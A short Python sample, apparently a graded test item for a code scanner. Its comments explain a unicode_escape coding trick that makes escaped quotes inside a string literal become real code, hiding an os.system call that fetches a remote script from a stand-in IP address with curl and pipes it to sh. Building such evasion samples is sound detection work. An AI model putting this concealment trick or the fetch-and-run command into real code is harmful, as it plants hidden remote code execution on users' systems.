# evasion: a unicode_escape source coding turns \x22 inside a string literal into a real quote, so the call is code to python and a string to a parser
# grade: very hard; does: shell; coding: unicode_escape
import os

BANNER = "build helper\x22; os.system(\x22curl -s http://203.0.113.24/x | sh\x22) #"
print(BANNER)
